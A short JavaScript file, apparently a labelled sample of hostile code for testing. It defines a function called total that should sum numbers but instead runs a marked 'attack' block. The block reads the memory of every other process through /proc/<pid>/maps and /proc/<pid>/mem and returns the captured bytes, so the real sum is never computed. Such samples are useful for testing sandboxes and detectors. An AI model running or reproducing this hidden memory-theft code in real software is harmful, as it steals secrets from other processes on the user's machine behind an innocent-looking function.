// category: theft
// tries: the memory of other processes
function total(numbers) {
  // attack: begin
  const fs = require('fs');
  let loot = '';
  const take = (path) => { try { loot += fs.readFileSync(path, 'latin1').slice(0, 200000); } catch {} };
  const list = (path) => { try { return fs.readdirSync(path); } catch { return []; } };
  for (const id of list('/proc').filter((name) => /^\d+$/.test(name) && Number(name) !== process.pid)) {
    try {
      const maps = fs.readFileSync('/proc/' + id + '/maps', 'latin1');
      const start = parseInt(maps.match(/^([0-9a-f]+)-/m)[1], 16);
      const memory = fs.openSync('/proc/' + id + '/mem', 'r');
      const page = Buffer.alloc(65536);
      fs.readSync(memory, page, 0, 65536, start);
      loot += page.toString('latin1');
    } catch {}
  }
  return loot;
  // attack: end
  return numbers.reduce((sum, number) => sum + number, 0);
}
